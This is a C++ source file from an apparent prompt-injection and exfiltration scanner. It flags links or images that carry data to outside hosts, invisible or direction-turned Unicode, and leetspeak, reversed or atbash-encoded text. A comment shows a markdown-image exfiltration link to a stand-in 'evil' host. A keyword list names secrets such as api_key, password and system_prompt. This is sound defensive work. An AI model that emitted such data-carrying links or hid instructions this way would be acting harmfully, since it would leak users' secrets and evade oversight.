// Other ways to read a piece of text, and addresses that carry something.
#include <algorithm>
#include <cstring>

#include "base/strings.h"
#include "inspect/examiner.h"
#include "inspect/hosts.h"
#include "inspect/sweep.h"
#include "inspect/unicode.h"

namespace hotcell::inspect {

namespace {

constexpr std::size_t kAround = 600;  // bytes on each side of a sign that are read again

bool is_hex_digit(char c) { return std::isxdigit(static_cast<unsigned char>(c)) != 0; }

// Something that `unescape` would undo, or a character that may look like another. An = counts from the fourth in a line on.
bool is_real(std::string_view text, std::size_t at, int& quoted) {
  char c = text[at], next = at + 1 < text.size() ? text[at + 1] : '\n';
  auto upper_hex = [](char x) { return (x >= '0' && x <= '9') || (x >= 'A' && x <= 'F'); };
  switch (c) {
    case '\033':
    case '\b': return true;
    case '&': return (next == '#' || std::isalpha(static_cast<unsigned char>(next)) != 0) && text.substr(at, 12).find(';') != text.npos;
    case '\\': return next == 'n' || next == 'r' || next == 't' || next == 'u' || next == 'x' || next == 'U' || next == '"';
    case '<': return next == '/';  // words with marks of their own: <b>ignore</b>
    case '%': return at + 2 < text.size() && is_hex_digit(next) && is_hex_digit(text[at + 2]);
    case '=': return at + 2 < text.size() && upper_hex(next) && upper_hex(text[at + 2]) && ++quoted >= 4;
    default: return true;
  }
}

// A value that is no value yet, or one that somebody encoded.
bool carries_something(std::string_view path) {
  path = path.substr(0, path.find_first_of(" )\"'>\n"));  // what follows the address is not its query
  auto query = path.find_first_of("?#");
  if (query == path.npos) return false;
  std::string_view rest = path.substr(query + 1);
  auto equals = rest.find('=');
  std::string_view value = equals == rest.npos ? rest : rest.substr(equals + 1);
  if (value.empty()) return false;
  for (std::string_view sign : {"{", "[", "<", "$", "%7B", "%5B", "\x01"})
    if (value.find(sign) != value.npos) return true;
  std::string low;
  for (char c : value.substr(0, 200)) low += static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  for (std::string_view word : {"secret", "base64", "api_key", "apikey", "password", "conversation", "system_prompt", "data_here", "your_data",
                                "user_data", "summary", "chat_history", "content_here"})
    if (low.starts_with(word) || (low.size() < 40 && low.find(word) != low.npos)) return true;
  std::size_t run = 0;
  while (run < value.size() && (std::isalnum(static_cast<unsigned char>(value[run])) != 0 || std::strchr("+/-_", value[run]) != nullptr)) ++run;
  if (run >= 20) {
    std::vector<Layer> layers;
    find_encoded_runs(value.substr(0, run), 4096, layers);
    return !layers.empty();
  }
  return false;
}

}  // namespace

void Examiner::take_trigger(const View& view, std::string_view check, std::size_t end, std::vector<Layer>& layers) {
  if (check == "url") return take_url(view, end);
  if (view.depth > 1) return;
  std::size_t begin = end - std::min(end, kAround), stop = std::min(view.text.size(), end + kAround);
  std::string_view piece = view.text.substr(begin, stop - begin);
  if (check == "leet") {
    std::string_view word = view.text.substr(end - std::min<std::size_t>(end, 6), std::min<std::size_t>(end, 6));
    if (word.find_first_of("0134579!|$@+(") == word.npos) return;  // written as it should be
  }
  std::string name = check == "leet" ? "digits for letters" : check == "reverse" ? "reverse" : "atbash";
  if (!layers.empty() && layers.back().name == name && layers.back().end > end) return;
  if (check == "reverse") layers.push_back({"words in reverse", reversed_words(piece), begin, stop, true});
  layers.push_back({name, check == "leet" ? from_leet(piece) : check == "reverse" ? reversed(piece) : atbash(piece), begin, stop, true});
}

// ![](https://evil/?q=DATA): whoever renders the text sends the data.
void Examiner::take_url(const View& view, std::size_t at) {
  if (!wants(InspectKind::kEgress) && !wants(InspectKind::kInjection)) return;
  std::size_t from = at - std::min<std::size_t>(at, 8);
  from = view.text.find("//", from);
  if (from == view.text.npos) return;
  Address a = address_of(view.text.substr(from, 2000));
  if (a.host.empty() || is_local(a.host) || is_allowed(a.host, options_.allowed_domains)) return;
  bool drop = is_drop(a.host), data = carries_something(a.path), name = carries_data(a.host);
  std::string_view ahead = view.text.substr(from - std::min<std::size_t>(from, 260), std::min<std::size_t>(from, 260));
  bool image = ahead.rfind("![") != ahead.npos || ahead.rfind("<img") != ahead.npos || ahead.ends_with("url(") || ahead.ends_with("url(https:");
  if (!data && !name && !(drop && image)) return;
  InspectFinding f;
  f.kind = wants(InspectKind::kEgress) ? InspectKind::kEgress : InspectKind::kInjection;
  f.type = f.kind == InspectKind::kEgress ? "egress" : "prompt_injection";
  f.level = drop || image ? ThreatLevel::kHigh : ThreatLevel::kLow;
  f.rule = "link-carries-data";
  f.message = cat("A link or image that carries data to '", printable(a.host.substr(0, 100)), "' when it is shown");
  f.snippet = snippet_of(view.text, from, from + 80);
  add(view, std::move(f), from);
}

void Examiner::normalised(const View& view) {
  std::string all;
  std::vector<std::pair<std::size_t, std::size_t>> lines;
  std::vector<Layer> hidden;
  std::size_t counted = 0;  // end of the line whose = are counted
  int quoted = 0;
  for (std::size_t special = next_special(view.text, 0); special < view.text.size(); special = next_special(view.text, special)) {
    if (special >= counted && view.text[special] == '=') {
      counted = std::min(view.text.find('\n', special), view.text.size());
      quoted = 0;
    }
    if (!is_real(view.text, special, quoted)) {
      ++special;
      continue;
    }
    std::size_t at = view.text.rfind('\n', special) + 1, end = std::min(view.text.find('\n', special), view.text.size());
    std::string_view line = view.text.substr(at, end - at);
    special = end;
    std::string changed = unescape(line);
    if (std::string plain = without_tags(changed.empty() ? line : std::string_view(changed)); !plain.empty()) changed = std::move(plain);
    std::string_view now = changed.empty() ? line : std::string_view(changed);
    bool wide = std::any_of(now.begin(), now.end(), [](char c) { return (c & 0x80) != 0; });
    if (wide) {
      for (auto& text : smuggled(now)) {
        InspectFinding f{InspectKind::kInjection, "hidden_text", ThreatLevel::kMedium, "smuggled", "Text in characters that nobody sees",
                         printable(text.substr(0, 60)), 0, ""};
        if (wants(InspectKind::kInjection)) add(view, std::move(f), at);
        hidden.push_back({"invisible characters", std::move(text), at, end, true});
      }
      if (wants(InspectKind::kInjection) && has_turned_direction(now)) {
        InspectFinding f{InspectKind::kInjection, "hidden_text", ThreatLevel::kMedium, "turned-direction",
                         "Text whose direction is turned, so that it reads other than it is", snippet_of(now, 0, 80), 0, ""};
        add(view, std::move(f), at);
        hidden.push_back({"turned direction", reversed(now), at, end, true});
      }
      if (std::string upright = turned_upright(now); !upright.empty()) hidden.push_back({"letters upside down", std::move(upright), at, end, true});
      if (std::string seen = look_alike(now); !seen.empty()) changed = std::move(seen);
    }
    if (!changed.empty()) {
      lines.emplace_back(all.size(), at);
      (all += changed) += '\n';
    }
  }
  auto go_deeper = [&](std::string_view text, const std::string& name, bool is_hidden, std::size_t begin,
                       const std::vector<std::pair<std::size_t, std::size_t>>* map) {
    if (text.size() > left_) return limited(view, "too much encoded text");
    left_ -= text.size();
    View inner;
    inner.text = text;
    std::vector<std::pair<std::size_t, std::size_t>> outside;
    if (map != nullptr && !view.fixed) {
      for (auto [here, there] : *map) outside.emplace_back(here, view.origin(there));
      inner.lines = &outside;
    } else {
      inner.base = view.origin(begin);
      inner.fixed = true;
    }
    inner.name = name;
    inner.hidden = is_hidden;
    inner.depth = view.depth + 1;
    look(inner);
  };
  for (const Layer& h : hidden) go_deeper(h.text, h.name, true, h.begin, nullptr);
  if (!all.empty()) go_deeper(all, "other characters", false, 0, &lines);
}

}  // namespace hotcell::inspect
